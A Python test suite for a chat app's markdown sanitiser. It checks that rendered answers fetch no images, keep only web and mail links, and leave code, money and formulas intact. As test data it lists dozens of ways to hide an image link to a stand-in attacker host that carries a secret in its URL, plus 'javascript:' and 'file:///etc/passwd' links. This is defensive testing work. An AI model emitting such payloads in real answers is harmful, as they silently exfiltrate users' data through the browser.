"""No text makes the reader's browser fetch a picture; money stays money, formulas formulas, code code.

What a picture is, an independent CommonMark parser says, not the code under test.
"""

from __future__ import annotations

import re
import textwrap
from collections.abc import Iterator

import pytest
from browser import Chat
from fake_api import FakeAPI, stream
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from components.elements.markdown import cite, plain, prepare

PARSERS = (
    MarkdownIt("commonmark"),
    MarkdownIt("commonmark").enable(["table", "strikethrough"]),
    MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"]),
)
URL = "https://evil.example/x.png?q=secret"
PICTURE = f"![x]({URL})"


def tokens(text: str, parser: MarkdownIt = PARSERS[1]) -> Iterator[Token]:
    for token in parser.parse(text):
        yield token
        yield from token.children or ()


def pictures(text: str) -> list[str]:
    """The addresses of the pictures that a browser would fetch, drawn as it is and as st.markdown indents it."""
    drawings = {text, textwrap.dedent(text).strip()} if "![" in text else ()  # quick: no picture without
    return [
        str(token.attrs.get("src"))
        for drawn in drawings
        for parser in PARSERS
        for token in tokens(drawn, parser)
        if token.type == "image"
    ]


def code(text: str) -> list[str]:
    """What stands in code, blocks and spans."""
    return [token.content for token in tokens(text) if token.type in ("fence", "code_block", "code_inline")]


# ---- pictures -------------------------------------------------------------------------------------------

HOSTILE = {
    "alone": PICTURE,
    "in words": f"Look: {PICTURE}!",
    "with a title": f'![x]({URL} "title")',
    "in angle brackets": f"![x](<{URL}>)",
    "without words": f"![]({URL})",
    "over two lines": f"![a\nb](\n{URL}\n)",
    "nested": f"![a ![b]({URL}) c]({URL})",
    "in a link": f"[{PICTURE}](https://good.example)",
    "bold": f"**{PICTURE}** _{PICTURE}_ ~~{PICTURE}~~",
    "by reference": f"![x][ref]\n\n[ref]: {URL}",
    "by reference before": f"[ref]: {URL}\n\n![x][ref]",
    "by its own name": f"![ref]\n\n[ref]: {URL}",
    "by an empty reference": f"![ref][]\n\n[ref]: {URL}",
    "in a heading": f"# {PICTURE}",
    "under a heading": f"{PICTURE}\n===",
    "in a list": f"- {PICTURE}\n- 1. {PICTURE}",
    "in a quote": f"> {PICTURE}\n> > {PICTURE}",
    "in a table": f"| a | b |\n|---|---|\n| {PICTURE} | `x` |",
    "in a cell like code": f"| a | b |\n|---|---|\n| `x | ` {PICTURE} ` |",
    "in a cell with all bars in code": f"| a | b | c |\n|-|-|-|\n`x | ` y ` | {PICTURE}`",
    "in a footnote": f"[^1]\n\n[^1]: {PICTURE}",
    "behind a backslash": f"\\\\{PICTURE} \\\\\\{PICTURE}",
    "behind an exclamation": f"!{PICTURE} !!{PICTURE}",
    "in html": f"<div>\n\n{PICTURE}\n\n</div>",
    "indented by three": f"   {PICTURE}",
    "as data": "![x](data:image/png;base64,AAAA)",
    # inline code that is none
    "behind a lone backtick": f"` {PICTURE}",
    "in unequal backticks": f"`` {PICTURE} `",
    "between spans": f"`a` {PICTURE} `b`",
    "behind an escaped backtick": f"\\`{PICTURE}`",
    "behind a span that ends in a backslash": f"`a\\` {PICTURE} `b`",
    "after a span over two lines": f"foo ` bar\n`{PICTURE}`",
    "after two spans over two lines": f"a ` b\nc\n` `{PICTURE}`",
    "an html attribute takes a backtick": f'<a title="`"> `x` {PICTURE}`',
    "an html attribute over two lines": f'<a title="\n`"> `x` {PICTURE}`',
    "an autolink takes a backtick": f"<https://a.example/`> `x` {PICTURE}`",
    "a bare address takes a backtick": f"https://a.example/` x `y` {PICTURE}`",
    "a paragraph ends inside a span": f"`a\n\n`{PICTURE}` b",
    "a carriage return ends the paragraph": f"` \r\r ` x ` {PICTURE}`",
    "a backtick on the line before": f"`\n`{PICTURE}`",
    # fences that are none, or have ended
    "after a fence": f"```\ncode\n```\n{PICTURE}",
    "the list ended the fence": f"- a\n  ```\n{PICTURE}\n  ```",
    "the numbered list ended the fence": f"1. a\n   ```\n{PICTURE}",
    "the list ended the fence, and another begins": f"- a\n  ```\nb\n  ```\n  ```\n{PICTURE}",
    "a fence began on the line of the list mark": f"- ```\n  code\n  ```\n  {PICTURE}",
    "a fence began on the line of the number": f"1. ~~~\n   code\n   ~~~\n   {PICTURE}",
    "a fence began two list marks deep": f"- - ```\n    code\n    ```\n    {PICTURE}",
    "a fence began in a quote": f"> ```\n> code\n```\n```\n{PICTURE}",
    "the quote ended the fence": f"> ```\n{PICTURE}",
    "a fence that is indented too deep does not close": f"```\n    ```\n```\n{PICTURE}",
    "a fence with words does not close": f"```\n``` no\n```\n{PICTURE}",
    "a shorter fence does not close": f"````\n```\n````\n{PICTURE}",
    "another fence does not close": f"```\n~~~\n```\n{PICTURE}",
    "an odd space does not close": f"```\n```\u00a0\n```\n{PICTURE}",
    "tildes may be followed by backticks": f"~~~ a`b\ncode\n~~~\n{PICTURE}",
    "backticks may not": f"``` a`b\n{PICTURE}\n```",
    "a fence in words": f"text ``` text\n{PICTURE}\n```",
    "a fence that is a span": f"```code``` {PICTURE}",
    "a fence that is indented like code": f"a\n\n    ```\n\n{PICTURE}",
    "a fence that is the rest of a sentence": f"a\n    ```\n    {PICTURE}\n    ```",
    "beside a fence that is the rest of a sentence": f"a\n    ```{PICTURE}",
    "a fence that a tab indents": f"- a\n\n\t```\n\tcode\n  ```\n  {PICTURE}",
    "a fence behind a carriage return": f"```\rcode\r```\r{PICTURE}",
    "a fence in html": f"<div>\n```\n\n{PICTURE}",
    "a fence in html in a list": f"- <div>\n  ```\n\n  {PICTURE}",
    "a fence in a comment": f"<!--\n```\n-->\n{PICTURE}",
    "a fence in a comment with a blank line": f"<!--\n\n```\n\n-->\n{PICTURE}",
    "a fence in preformatted text": f"<pre>\n\n```\n\n</pre>\n{PICTURE}",
    "a fence in a script": f"<script>\n\n```\n\n</script>\n{PICTURE}",
    "a fence in a declaration": f"<!X\n```\n>\n{PICTURE}",
    "a fence after a closing tag": f"</div>\n```\n\n{PICTURE}",
    "a fence after a tag that is none": f"<3\n```\ncode\n```\n{PICTURE}",
    "a fence in doubtful html": f"words\n<b\n```\ncode\n```\n{PICTURE}",
    "a fence after dollars": f"price in $$\n```\n$$\n```\n{PICTURE}",
    "a fence after more dollars": f"$$$$\n```\n$$$$\n```\n{PICTURE}",
    "a fence in a formula in a formula": f"$$\n$$```$$\n$$\n```\n{PICTURE}",
    "a fence between brackets": f"\\[\n```\n\\]\n{PICTURE}\n```",
    "in a formula": f"$${PICTURE}$$ ${PICTURE}$ \\({PICTURE}\\) \\[{PICTURE}\\]",
    "in a formula over lines": f"$$\n{PICTURE}\n$$\n{PICTURE}",
    "beside money": f"$5 {PICTURE} $6",
    # what Streamlit's renderer knows and this parser does not
    "a directive ends the fence": f":::note\n```\n:::\n{PICTURE}",
    "a directive takes a backtick": f':a{{b="`"}} `x` {PICTURE}`',
    "a directive's words take a backtick": f":a[`] `x` {PICTURE}`",
    "a bare host takes a backtick": f"www.a.example/` x `y` {PICTURE}`",
    "a longer mark of a formula": f"$$$$\n```\n$$$$\n```\n{PICTURE}",
    "a tag of a picture": f"<img src={URL}>",
    "a picture in a formula": f"$\\includegraphics{{{URL}}}$",
    "an odd first character": f"\u00a0```\ncode\n```\n{PICTURE}",
    "all of it indented": f"    ```\n    code\n    ```\n    {PICTURE}",
}
each_hostile = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)


def test_the_parser_sees_pictures_where_there_are_some() -> None:
    assert pictures(PICTURE)
    assert pictures(HOSTILE["the list ended the fence"])
    assert not pictures(f"`{PICTURE}`")


@each_hostile
def test_no_picture_is_fetched(text: str) -> None:
    assert pictures(prepare(text)) == []


@each_hostile
def test_no_picture_is_fetched_while_the_text_arrives(text: str) -> None:
    for length in range(len(text)):
        assert pictures(prepare(text[:length])) == []


# What a text may leave behind for the next one: an open fence, a formula, HTML, a list, half a span.
BEGINNINGS = [
    *("```\ncode", "~~~ a`b", "- ```\n  a", "> ```", "- a\n  ```", "    ```", "$$\nx", "a $$ b", "\\[ x", "a ` b"),
    *("<div>", "<!--", "- a\n  - b", "| a | b |\n|---|---|", "[^1]: a"),
    *("```\n    ```", "``` `", "\u00a0```", "[a]: <"),
]


@each_hostile
def test_no_picture_is_fetched_after_any_other_text(text: str) -> None:
    for beginning in BEGINNINGS:
        assert pictures(prepare(f"{beginning}\n{text}")) == []


@each_hostile
@pytest.mark.parametrize("before", ["> ", "- ", "1. ", "  ", "    ", "\t", "* > ", "[^1]: "])
def test_no_picture_is_fetched_from_inside_another_block(text: str, before: str) -> None:
    every_line = "\n".join(before + line for line in text.split("\n"))
    first_line = before + text
    indented = before + text.replace("\n", "\n" + " " * len(before))
    for inside in (every_line, first_line, indented):
        assert pictures(prepare(inside)) == []


PIECES = (
    *("![x](u)", "![", "x](u)", "`![x](u)`", "`", "``", "```", "````", "~~~", "    ", "  ", " ", "\t", "\r"),
    *("- ", "1. ", "> ", "* ", "# ", "---", "| ", "|-|-|", "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\"),
    *("<div>", "</div>", "<!--", "-->", "<pre>", "</pre>", '<a title="', '">', "<", ">", "[", "](", "[r]: u"),
    *("https://a.example/", "a", "rust", ":", ":::", "~", "{", "}", "\u00a0", "5"),
)
DOCUMENTS = st.lists(st.sampled_from(PIECES) | st.just("\n") | st.just("\n\n"), max_size=24).map("".join)


@given(DOCUMENTS)
@example("```\n    ```\n```\n![x](u)")
def test_no_picture_is_fetched_whatever_is_put_together(text: str) -> None:
    assert pictures(prepare(text)) == []


@given(st.lists(st.sampled_from([*HOSTILE.values(), "```", "~~~", "text", "", "- a", "  b", "$$"]), max_size=5))
def test_no_picture_is_fetched_whatever_follows_what(parts: list[str]) -> None:
    assert pictures(prepare("\n".join(parts))) == []


@given(st.text(alphabet="!`[]()~$\\<>-\n \t|:1.ux\"'", max_size=60))
def test_no_picture_is_fetched_from_any_characters(text: str) -> None:
    assert pictures(prepare(text)) == []


def test_the_address_of_a_picture_can_still_be_read_and_clicked() -> None:
    links = [token.attrs["href"] for token in tokens(prepare(PICTURE)) if token.type == "link_open"]
    assert links == [URL]


def test_a_link_stays_a_link() -> None:
    assert prepare("[a](https://a.example)") == "[a](https://a.example)"


def test_an_exclamation_is_only_an_exclamation() -> None:
    assert prepare("Hello! [a](b) wow!") == "Hello! [a](b) wow!"


def test_the_real_renderer_fetches_no_picture(chat: Chat, server: FakeAPI) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    for text in list(HOSTILE.values())[-12:]:  # those that only the real one understands among them
        server.play(stream(text.replace("https://evil.example", "http://127.0.0.1:9")))
        chat.send("Hello").ended()
    assert chat.page.locator("a[href*='127.0.0.1:9']").count(), "the answers are there"
    assert not [url for url in asked if "127.0.0.1:9/" in url]


# ---- links ----------------------------------------------------------------------------------------------

ELSEWHERE = (
    "javascript:alert(1)",
    "data:text/html,x",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "vbscript:x",
    "svg:svg",
)
ELSEWHERE += ("d&#97;ta:x", "data&colon;x", "ftp://a.example/x", "blob:http://a.example/1", "tel:1", "\\data:x")
WAYS = (
    "[x]({})",
    "[x]( {} )",
    '[x]({} "t")',
    "[x](<{}>)",
    "<{}>",
    "[r]\n\n[r]: {}",
    "[r]\n\n[r]:\n{}",
    "[r]\n\n[r]: <{}> 't'",
)
WAYS += ("\\\\<{}>", "\\\\[x]({})", "$$\n<{}>\n$$")
WAYS += (
    "[x](\n{})",
    "- [x]({})",
    "> [r]\n>\n> [r]: {}",
    "[a](b[x]({}))",
    "![x]({})",
    "[![x]({})]({})",
    "`a` [x]({}) $5",
)


def links(text: str) -> list[str]:
    """Where the links of a text lead, by a parser that lets all of them be."""
    parser = MarkdownIt("commonmark")
    parser.validateLink = lambda _: True  # type: ignore[method-assign]
    return [str(token.attrs["href"]) for token in tokens(text, parser) if token.type == "link_open"]


@pytest.mark.parametrize("address", ELSEWHERE)
@pytest.mark.parametrize("way", WAYS)
def test_no_link_leads_to_anything_but_pages_and_mail(way: str, address: str) -> None:
    text = way.replace("{}", address)
    assert [found for found in links(prepare(text)) if ":" in found.partition("/")[0]] == []
    for beginning in BEGINNINGS:
        found = links(prepare(f"{beginning}\n{text}"))
        assert [link for link in found if ":" in link.partition("/")[0]] == []


@pytest.mark.parametrize(
    "address", ["https://a.example/x:y", "HTTP://a.example", "mailto:a@b.example", "#part", "/a:b"]
)
@pytest.mark.parametrize("way", WAYS[:3])
def test_a_link_to_a_page_or_to_mail_stays_one(way: str, address: str) -> None:
    assert links(prepare(way.replace("{}", address))) == [address]


def test_words_that_look_like_an_address_stay_as_they_are() -> None:
    for text in (
        "[^1]: Source: a book",
        "Note [1]:",
        "`x[0]:`",
        "a[0]: int",
        "if `f[T](x: int)` in [a](https://b.example)",
    ):
        assert prepare(text) == text


def test_backslashes_before_a_tag_are_all_there() -> None:
    assert prepare("a \\\\<b> c") == "a \\\\\\<b> c"
    assert prepare("a \\<b> c") == "a \\<b> c"


def test_a_picture_in_base64_is_not_drawn_as_a_page_of_letters() -> None:
    assert len(prepare(f"Here: ![a](data:image/png;base64,{'A' * 100_000})")) < 200


# ---- code -----------------------------------------------------------------------------------------------

CODE = {
    "a fence": "```rust\nlet a = vec![1, 2];\n```",
    "a fence of tildes": "~~~rust\nlet a = vec![1, 2];\n~~~",
    "a fence that has not ended": "```rust\nlet a = vec![1, 2];\n",
    "a fence after text": "Here it is:\n```rust\nvec![1]\n```\nThat is it.",
    "two fences": "```rust\nvec![1]\n```\n\n```md\n![a](b)\n```",
    "a fence in a list": "1. Write:\n   ```rust\n   vec![1]\n\n   vec![2]\n   ```\n2. Run it.",
    "a fence in a dotted list": "- Write:\n\n  ```rust\n  vec![1]\n  ```\n- Run it.",
    "a fence after a list": "- a\n- b\n\n```rust\nvec![1]\n```",
    "a fence that holds a fence": "````md\n```rust\nvec![1]\n```\n````",
    "a fence that holds html": "```html\n<pre>\n<!-- -->\n```\n\n```rust\nvec![1]\n```",
    "a fence after a formula": "$$\nx\n$$\n\n```rust\nvec![1]\n```",
    "a fence after a display formula": "\\[ x = 1 \\]\n\n```rust\nvec![1]\n```",
    "a fence after html and a blank line": "<details>\n<summary>a</summary>\n\n```rust\nvec![1]\n```",
    "a fence after a break": "One<br>two\n```rust\nvec![1]\n```",
    "a fence with dollars": "```bash\necho $HOME $$ $5\n```",
    "a fence with brackets": '```python\nre.compile("\\\\(a\\\\)")\nx = "\\\\[b\\\\]"\n```',
    "a span": "Write `vec![1]` in Rust.",
    "a span with a picture": "A picture is written `![alt](url)`.",
    "a span after a bold word": "**Syntax:** `![alt](url)`",
    "a span in a list": "- `![alt](url)`: a picture",
    "a span of two backticks": "Write ``![a](`b`)`` here.",
    "a span with dollars": "Run `echo $HOME $5` now.",
    "a span with brackets": "Escape `\\(` and `\\[` so.",
    "a span beside a formula": "With $x$ in `a $ b` too.",
    "a span after another paragraph": "A lone ` backtick.\n\nWrite `vec![1]`.",
}


@pytest.mark.parametrize("text", CODE.values(), ids=CODE)
def test_code_is_left_alone(text: str) -> None:
    assert code(text)
    assert code(prepare(text)) == code(text)


def test_code_in_a_deep_list_keeps_everything_but_its_pictures() -> None:
    text = "- a\n  - b\n\n    ```rust\n    vec![1] + f($x)\n    ```"
    assert code(prepare(text)) == ["vec!\\[1] + f($x)\n"]


@given(st.text(alphabet="ab$!\\()[] \n", max_size=40))
def test_any_code_in_a_fence_is_left_alone(content: str) -> None:
    text = f"```\n{content}\n```\n"
    assert code(prepare(text)) == code(textwrap.dedent(text)), "st.markdown empties blank lines itself"


def test_a_line_that_only_ends_otherwise_is_the_same() -> None:
    assert prepare("a\r\nb\rc") == "a\nb\nc"


# ---- money and formulas ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("$5", "\\$5"),
        ("It costs $5 and $10.", "It costs \\$5 and \\$10."),
        ("$5-$10", "\\$5-\\$10"),
        ("from $1,000.50 to $2", "from \\$1,000.50 to \\$2"),
        ("a $ b $ c", "a \\$ b \\$ c"),
        ("US$5", "US\\$5"),
        ("5$", "5\\$"),
        ("$", "\\$"),
        ("**$5** or _$6_", "**\\$5** or _\\$6_"),
        ("| $5 | $6 |", "| \\$5 | \\$6 |"),
        ("already \\$5", "already \\$5"),
    ],
)
def test_money_stays_money(text: str, drawn: str) -> None:
    assert prepare(text) == drawn


@pytest.mark.parametrize(
    "text",
    [
        "$x$",
        "$x^2 + y^2$",
        "Let $a$ and $b$ be given.",
        "$5x$",
        "($x$)",
        "$x$, $y$.",
        "$\\alpha$",
        "$a_1$-th",
    ],
)
def test_a_formula_stays_a_formula(text: str) -> None:
    assert prepare(text) == text


def test_money_and_a_formula_in_one_line() -> None:
    assert prepare("It costs $5 if $x$ is 1.") == "It costs \\$5 if $x$ is 1."


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("\\(x\\)", "$x$"),
        ("With \\(a\\) and \\(b\\).", "With $a$ and $b$."),
        ("so \\[x\\] is", "so $$x$$ is"),
        ("\\[x\\]", "$$\nx\n$$"),
        ("- a\n  \\[x\\]", "- a\n  $$\n  x\n  $$"),
        ("$$x$$", "$$\nx\n$$"),
        ("\\[\nx\n\\]", "$$\nx\n$$"),
        ("$$\nx\n$$", "$$\nx\n$$"),
    ],
)
def test_a_formula_is_written_as_streamlit_knows_it(text: str, drawn: str) -> None:
    assert prepare(text) == drawn


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("\\[ x\n= y \\]", "$$\nx\n= y\n$$"),
        ("$$ x\n= y $$", "$$\nx\n= y\n$$"),
        ("\\[ x\n= y\n\\]", "$$\nx\n= y\n$$"),
        ("\\[\nx\n= y \\]", "$$\nx\n= y\n$$"),
        ("- a\n  \\[ x\n  = y \\]", "- a\n  $$\n  x\n  = y\n  $$"),
    ],
)
def test_a_formula_over_several_lines_ends_where_it_was_meant_to(text: str, drawn: str) -> None:
    assert prepare(text) == drawn


def test_what_stands_in_a_formula_is_left_alone() -> None:
    text = "$$\na_1 \\$5 `b`\n$$"
    assert prepare(text) == text


def test_money_after_a_formula_is_money() -> None:
    assert prepare("$$\nx\n$$\n$5 and $6") == "$$\nx\n$$\n\\$5 and \\$6"


# ---- anything -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["", "a", "a\n", "a\n\nb", "# a\n\n- b\n  c\n\n> d\n", "日本語 🎉"])
def test_plain_markdown_passes_unchanged(text: str) -> None:
    assert prepare(text) == text


@given(st.text(max_size=80) | DOCUMENTS)
def test_any_text_can_be_prepared_and_no_word_is_lost(text: str) -> None:
    drawn = prepare(text)
    assert [char for char in drawn if char.isalpha() and not char.isascii()] == [
        char for char in text if char.isalpha() and not char.isascii()
    ]
    assert sum(map(str.isdigit, drawn)) == sum(map(str.isdigit, text))


ENDLESS = [
    "$",
    "`",
    "![",
    "](",
    "]:",
    "](<",
    "[a](data:",
    "$a ",
    "` a",
    "<a ",
    "\\[ ",
    "[^a]: ",
    "- ",
    "> ",
    "1. ",
    "[^",
    ":a[",
]


@pytest.mark.parametrize("piece", [*ENDLESS, "\n$$", "\n```", "\n- ```"], ids=ascii)
def test_a_long_text_takes_no_longer_than_its_length(piece: str) -> None:
    # Quadratic work on this much text is minutes, and the limit of one test ends it.
    assert prepare(piece * 20_000)


# ---- one line of plain words ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE.values(), "# a", "1. a", "- a", "> a", "a | b", "**a**", "<b>a</b>"])
def test_plain_words_are_nothing_but_words(text: str) -> None:
    for parser in PARSERS:
        kinds = {token.type for token in tokens(plain(text), parser)}
        assert kinds <= {"paragraph_open", "inline", "text", "text_special", "paragraph_close"}


BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("text", ["https://a.example", "www.a.example", "WWW.a.example", "me@a.example", "a@b.c"])
def test_plain_words_are_no_links(text: str) -> None:
    # The renderer finds bare addresses after it has taken the backslashes away: a joiner keeps them apart.
    assert "\u2060" in plain(text)


def test_plain_words_run_in_one_direction() -> None:
    assert plain("a\u202eb\u2066c\u2069") == "abc"


@given(st.text(max_size=60))
def test_plain_words_are_read_as_they_were_written(text: str) -> None:
    (inline,) = [token for token in PARSERS[1].parse(plain(text)) if token.type == "inline"] or [None]
    shown = "".join(child.content for child in inline.children or ()) if inline else ""
    unlinked = " ".join(shown.replace("\u2060", "").split())  # what keeps an address from becoming a link
    assert unlinked == " ".join(BIDI.sub("", text).replace("\u2060", "").split()).replace("\x00", "\ufffd")


@pytest.mark.parametrize("text", ["a\nb", "a\r\nb", "a\u2028b", "a \t  b", " a b "])
def test_plain_words_stand_on_one_line(text: str) -> None:
    assert plain(text) == "a b"


@pytest.mark.parametrize("text", [":material/home:", ":red[x]", ":smile:", "$x$", "a -> b", "https://a.example"])
def test_plain_words_are_no_command_of_streamlits(text: str) -> None:
    assert not any(mark in plain(text).replace("\\" + mark, "") for mark in ":[]$>/")


# ---- sources --------------------------------------------------------------------------------------------


SOURCES = ["https://a.test/x?y=1&z=$(2)", "javascript:alert(1)", "https://b.test/"]
FIRST, THIRD = "[[1]](https://a.test/x?y=1&z=%24%282%29)", "[[3]](https://b.test/)"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Rain [1]. Snow[3], or both [1][3].", f"Rain {FIRST}. Snow{THIRD}, or both {FIRST}{THIRD}."),
        ("- [3] first", f"- {THIRD} first"),
        ("no web page [2], none of them [0][4][999]", "no web page [2], none of them [0][4][999]"),
        ("`[1]` is code", "`[1]` is code"),
        ("```\n[1]\n```", "```\n[1]\n```"),
        ("$$\n[1]\n$$", "$$\n[1]\n$$"),
        ("a [1](https://c.test) link, ![1], [x][1], \\[1]", "a [1](https://c.test) link, ![1], [x][1], \\[1]"),
        ("[1]: https://evil.test", "[1]: https://evil.test"),
    ],
)
def test_the_numbers_in_a_text_with_sources_are_links_to_them(text: str, shown: str) -> None:
    assert cite(text, SOURCES) == shown
    assert cite(text, []) == text


@given(st.text("[]()!\\`$\n 123ab:", max_size=60), st.lists(st.text(max_size=30), max_size=3))
def test_no_source_becomes_a_picture_or_another_link_than_its_own(text: str, sources: list[str]) -> None:
    before = set(re.findall(r"\]\(([^)]*)", text))
    for address in re.findall(r"\]\((https?:[^)]*)", cite(text, sources)):
        assert address in before or any(found.lower().startswith("http") for found in sources)
    assert prepare(cite(text, sources)).count("![") == prepare(text).count("![")
